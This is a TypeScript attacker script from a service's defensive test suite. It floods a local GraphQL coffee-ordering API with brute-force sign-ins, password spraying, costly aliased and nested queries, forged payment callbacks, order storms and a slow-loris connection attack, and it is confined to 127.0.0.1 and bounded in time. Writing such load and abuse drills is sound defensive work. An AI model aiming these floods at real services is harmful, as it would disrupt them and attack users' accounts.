// The bystander drill's attacker (test/drills/11-bystanders.test.ts): one
// attack family, run as its own process so that its CPU is not the
// service's or the bystanders'. What one free account or one anonymous
// source can send: a few connections, each sending as soon as the last
// answer came. Every loop is bounded by a count AND a time, so it stops by
// itself; it talks only to 127.0.0.1.
//
//   node test/drills/attacker.ts <family> <url> '<json options>'
//
// Prints one line "ready" when it starts attacking (after signing up, for
// the families that need an account), and one JSON line with what it sent
// and what came back when it stops. Self-contained (node:http and node:net
// only): it runs outside jest.

import http from "node:http";
import net from "node:net";
import { createHash, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import path from "node:path";

export const FAMILIES = [
  "sign-in",
  "wrong-password",
  "heavy-selection",
  "nested-input",
  "callback",
  "pool",
  "slow-clients",
  "wifi",
  "trusted-variants",
  "distributed-sign-in",
  "alias-pool",
  "idempotency-keys",
  "no-op-mutations",
] as const;
export type Family = (typeof FAMILIES)[number];

export interface AttackOptions {
  /** The source address the attacker's sockets are bound to (a 127/8 address: the service sees it as the client's). */
  localAddress: string;
  durationMs: number;
  maxRequests: number;
  concurrency: number;
  /** More source addresses: the loops take turns over them (each its own keep-alive connections). */
  sources?: string[];
  /** trusted-variants: one variant in this many is KioskMenu's (default 8; the others Ping's, or ad hoc). */
  menuEvery?: number;
  /** At most this many requests a second, all loops together, evenly spaced (default: as fast as answered). */
  ratePerSecond?: number;
}

const LATTE = "40000000-0000-4000-8000-000000000003";
const CAPPUCCINO = "40000000-0000-4000-8000-000000000005";
const ESPRESSO = "40000000-0000-4000-8000-000000000001";

const MANIFEST = JSON.parse(readFileSync(path.join(import.meta.dirname, "..", "..", "contract", "trusted-documents.json"), "utf8")) as Record<string, string>;
const nameOf = (text: string) => /^\s*(?:query|mutation|subscription)\s+(\w+)/.exec(text)?.[1];

/** The contract's trusted documents by operation name (the attacker sends what a real client may send). */
function trustedIds(): Map<string, string> {
  const byName = new Map<string, string>();
  for (const [id, text] of Object.entries(MANIFEST)) {
    const name = nameOf(text);
    if (name) byName.set(name, id);
  }
  return byName;
}

/**
 * The i-th distinct document of a variant flood: a trusted text (its plain
 * or Apollo `__typename` form, Ping or KioskMenu) with whitespace and a
 * `# comment` of its own, or an ad-hoc document of its own; never sent
 * twice. Three in four are Ping's forms (cheap to send; each a new text all
 * the same), one in eight KioskMenu's, one in eight ad hoc.
 */
function variant(i: number, menuEvery = 8): string {
  const forms = Object.values(MANIFEST).filter((t) => nameOf(t) === "Ping" || nameOf(t) === "KioskMenu");
  const ping = forms.filter((t) => nameOf(t) === "Ping");
  const menu = forms.filter((t) => nameOf(t) === "KioskMenu");
  const pad = " ".repeat(1 + (i % 7));
  if (i % 8 === 7) return `query Adhoc${i} {${pad}__typename }`;
  const base = i % menuEvery === menuEvery - 2 ? menu[Math.floor(i / menuEvery) % menu.length]! : ping[i % ping.length]!;
  // Whitespace after the first line, and a comment naming i.
  const nl = base.indexOf("\n");
  return nl === -1 ? `${base}${pad}# ${i}` : `${base.slice(0, nl)}${pad}# ${i}${base.slice(nl)}`;
}

interface Answer {
  status: number;
  code?: string;
  message?: string;
}

async function main(): Promise<void> {
  const [family, url, json] = process.argv.slice(2) as [Family, string, string];
  if (!FAMILIES.includes(family) || !/^http:\/\/127\.0\.0\.1:\d+$/.test(url ?? "")) {
    console.error(`usage: attacker.ts <${FAMILIES.join("|")}> http://127.0.0.1:<port> '<json options>'`);
    process.exit(2);
  }
  const o = JSON.parse(json) as AttackOptions;
  const ids = trustedIds();
  const addresses = o.sources?.length ? o.sources : [o.localAddress];
  const agents = addresses.map((localAddress) => new http.Agent({ keepAlive: true, maxSockets: Math.max(1, Math.ceil(o.concurrency / addresses.length)), localAddress } as http.AgentOptions));
  const agent = agents[0]!;
  let turn = 0;
  const counts: Record<string, number> = {};
  /** The first message of each answer's code, to tell the lead what the refusals said. */
  const messages: Record<string, string> = {};
  let sent = 0;
  let started = Date.now();
  const deadline = () => started + o.durationMs;
  const more = () => sent < o.maxRequests && Date.now() < deadline();

  /** Requests in flight: at the deadline they are aborted, so the attack ends on time whatever the service does. */
  const inFlight = new Set<http.ClientRequest>();
  const post = (route: string, body: string, headers: Record<string, string> = {}): Promise<Answer> =>
    new Promise((resolve) => {
      const req = http.request(`${url}${route}`, {
        method: "POST",
        agent: agents[turn++ % agents.length],
        headers: { "content-type": "application/json", accept: "application/json", ...headers },
      });
      // Bounded too: an answer that never comes ends this request, not the attack.
      req.setTimeout(20_000, () => req.destroy(new Error("TIMEOUT")));
      inFlight.add(req);
      req.once("close", () => inFlight.delete(req));
      req.on("response", (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => {
          let code: string | undefined;
          let message: string | undefined;
          try {
            const j = JSON.parse(Buffer.concat(chunks).toString("utf8"));
            code = j?.errors?.[0]?.extensions?.code ?? j?.error?.code ?? (typeof j?.error === "string" ? j.error : undefined);
            message = j?.errors?.[0]?.message ?? j?.error?.message;
          } catch {
            // not JSON
          }
          resolve({ status: res.statusCode ?? 0, code, message });
        });
        res.on("error", () => resolve({ status: -1, code: "RESET" }));
      });
      req.on("error", (e) => resolve({ status: -1, code: (e as NodeJS.ErrnoException).code ?? e.message }));
      req.end(body);
    });
  const gql = (body: Record<string, unknown>, token?: string) => post("/graphql", JSON.stringify(body), token ? { authorization: `Bearer ${token}` } : {});
  const count = (a: Answer) => {
    const k = `${a.status}${a.code ? ` ${a.code}` : ""}`;
    counts[k] = (counts[k] ?? 0) + 1;
    if (a.code && a.message && !(a.code in messages)) messages[a.code] = a.message.slice(0, 120);
  };
  /** `concurrency` loops, each sending the next request when the last answered. */
  const flood = async (send: (i: number) => Promise<Answer>) => {
    const stopper = setInterval(() => {
      if (Date.now() < deadline()) return;
      for (const req of inFlight) req.destroy(Object.assign(new Error("aborted at the deadline"), { code: "ABORTED_AT_DEADLINE" }));
    }, 100);
    const pacedFrom = Date.now();
    await Promise.all(
      Array.from({ length: o.concurrency }, async () => {
        while (more()) {
          const i = sent++;
          const due = o.ratePerSecond ? pacedFrom + (i * 1000) / o.ratePerSecond : 0;
          if (due > Date.now()) await new Promise((resolve) => setTimeout(resolve, due - Date.now()));
          count(await send(i));
        }
      }),
    );
    clearInterval(stopper);
  };
  /** A free account of the attacker's own (Register, as the sign-up screen sends it). */
  const signUp = async () => {
    const email = `attacker-${randomBytes(6).toString("hex")}@example.net`;
    const password = randomBytes(12).toString("hex");
    const r = await new Promise<{ token?: string; status: number; text: string }>((resolve) => {
      const req = http.request(`${url}/graphql`, { method: "POST", agent, headers: { "content-type": "application/json" } });
      req.on("response", (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => {
          const text = Buffer.concat(chunks).toString("utf8");
          let token: string | undefined;
          try {
            token = JSON.parse(text)?.data?.register?.token;
          } catch {
            // not JSON
          }
          resolve({ token, status: res.statusCode ?? 0, text });
        });
      });
      req.on("error", (e) => resolve({ status: -1, text: e.message }));
      req.end(JSON.stringify({ documentId: ids.get("Register"), variables: { email, password, name: "Mallory" } }));
    });
    if (!r.token) throw new Error(`sign-up failed: ${r.status} ${r.text.slice(0, 300)}`);
    return { email, password, token: r.token };
  };

  const ready = () => {
    started = Date.now();
    console.log("ready");
  };

  switch (family) {
    case "sign-in": {
      // Finding 1: the right password, again and again (lock-out counts failures only).
      const me = await signUp();
      ready();
      await flood(() => gql({ documentId: ids.get("Login"), variables: { email: me.email, password: me.password } }));
      break;
    }
    case "wrong-password": {
      // Wrong passwords, for a customer's account and for strangers' addresses.
      ready();
      await flood((i) => gql({ documentId: ids.get("Login"), variables: { email: i % 2 ? `nobody-${i % 50}@example.net` : "alice@example.com", password: `wrong-${i}-password` } }));
      break;
    }
    case "wifi": {
      // One customer on the café's shared address: wrong passwords, and the
      // cheapest request there is (Ping, no SQL) as fast as it is answered.
      ready();
      await flood((i) => (i % 2 ? gql({ documentId: ids.get("Ping") }) : gql({ documentId: ids.get("Login"), variables: { email: `nobody-${i % 50}@example.net`, password: `wrong-${i}-password` } })));
      break;
    }
    case "trusted-variants": {
      // Endless "trusted" texts: each request a document never sent before (variant()).
      ready();
      await flood((i) => gql({ query: variant(i, o.menuEvery) }));
      break;
    }
    case "distributed-sign-in": {
      // Sign-ins with unknown e-mails from many addresses (`sources`), each under its own limits.
      ready();
      await flood((i) => gql({ documentId: ids.get("Login"), variables: { email: `nobody-${i}@example.net`, password: `wrong-${i}-password` } }));
      break;
    }
    case "alias-pool": {
      // A customer's 30 aliased counts over the order lines: one request, priced by the rows it scans.
      const me = await signUp();
      ready();
      const query = `query Grab { ${Array.from({ length: 30 }, (_, a) => `a${a}: allCoffees { nodes { orderItemList { totalCount } } }`).join(" ")} }`;
      await flood(() => gql({ query }, me.token));
      break;
    }
    case "idempotency-keys": {
      // Anonymous refused mutations, each with a random 255-character Idempotency-Key.
      ready();
      await flood(() =>
        post("/graphql", JSON.stringify({ documentId: ids.get("Logout"), variables: { refreshToken: randomBytes(24).toString("hex") } }), {
          "idempotency-key": randomBytes(128).toString("hex").slice(0, 255),
        }),
      );
      break;
    }
    case "no-op-mutations": {
      // Anonymous mutations that change nothing (Logout with a junk token): they must not empty the live cache.
      ready();
      await flood(() => gql({ documentId: ids.get("Logout"), variables: { refreshToken: randomBytes(24).toString("hex") } }));
      break;
    }
    case "heavy-selection": {
      // Finding 3: a selection whose cost counts rows returned, not rows scanned.
      const me = await signUp();
      ready();
      await flood(() => gql({ query: "query Heavy { allCoffees { nodes { id orderItemList { totalCount } } } }" }, me.token));
      break;
    }
    case "nested-input": {
      // Finding 4: ~24 KB of nested filter variables; the depth and token limits look at the document only.
      // The body is written as text: JSON.stringify of 2,400 levels would overflow this process's stack.
      const depth = 2400;
      const filter = `${'{"or":['.repeat(depth)}{"name":{"equalTo":"Latte"}}${"]}".repeat(depth)}`;
      const body = `{"query":"query Nested($f: CoffeeFilter) { allCoffees(filter: $f, first: 1) { nodes { id } } }","variables":{"f":${filter}}}`;
      ready();
      await flood(() => post("/graphql", body));
      break;
    }
    case "callback": {
      // Finding 5: unsigned deliveries; the source is soon blocked, and every refusal still runs a transaction.
      ready();
      await flood((i) =>
        post("/orders/payment-callback", JSON.stringify({ order_id: "00000000-0000-4000-8000-0000000a0001", status: "paid", amount: "3.50", items: [], event_id: `forged-${i}` }), {
          authorization: "Bearer not-the-token",
          "x-signature": `sha256=${createHash("sha256").update(String(i)).digest("hex")}`,
        }),
      );
      break;
    }
    case "pool": {
      // Finding 3 (second half): orders whose payload selection is read while the order's stock locks are held.
      const me = await signUp();
      ready();
      const query = `mutation Storm($input: CreateOrderInput!) { createOrder(input: $input) { id items { coffee { orderItemList { totalCount } } } } }`;
      // Three lines: three stock rows locked (the latte's milk and beans among them), three relation counts read under the locks.
      const items = [LATTE, CAPPUCCINO, ESPRESSO].map((coffeeId) => ({ coffeeId, quantity: 1 }));
      await flood(() => gql({ query, variables: { input: { items } } }, me.token));
      break;
    }
    case "slow-clients": {
      // Finding 11: slow-loris. Connections that send their headers (or body) a few bytes at a time.
      ready();
      const { port } = new URL(url);
      const open = new Set<net.Socket>();
      let opened = 0;
      let ending = false;
      const openOne = (slowBody: boolean) => {
        if (!more()) return;
        sent++;
        opened++;
        const s = net.connect({ host: "127.0.0.1", port: Number(port), localAddress: o.localAddress });
        open.add(s);
        s.on("error", () => {});
        s.on("data", (d: Buffer) => count({ status: Number(/^HTTP\/1\.1 (\d+)/.exec(d.toString("latin1"))?.[1] ?? 0) }));
        s.once("connect", () => {
          s.write(slowBody ? "POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{" : "POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\n");
        });
        let ours = false;
        const drip = setInterval(() => {
          if (Date.now() >= deadline()) {
            ours = true;
            return s.destroy();
          }
          s.write(slowBody ? " " : `X-Drip-${Math.floor(Math.random() * 1e6)}: a\r\n`);
        }, 1000);
        s.once("close", () => {
          clearInterval(drip);
          open.delete(s);
          if (ours || ending) return;
          count({ status: 0, code: "closed by server" });
          // A closed connection is opened again, as a slow-loris does.
          if (Date.now() < deadline()) setTimeout(() => openOne(slowBody), 50);
        });
      };
      for (let i = 0; i < o.concurrency; i++) openOne(i % 4 === 3);
      while (Date.now() < deadline() && (open.size || more())) await new Promise((r) => setTimeout(r, 200));
      ending = true;
      for (const s of open) s.destroy();
      counts.connections_opened = opened;
      break;
    }
  }
  for (const a of agents) a.destroy();
  console.log(JSON.stringify({ family, sent, ms: Date.now() - started, counts, messages }));
}

main().then(
  () => process.exit(0),
  (e) => {
    console.error(`attacker: ${(e as Error).message}`);
    process.exit(1);
  },
);
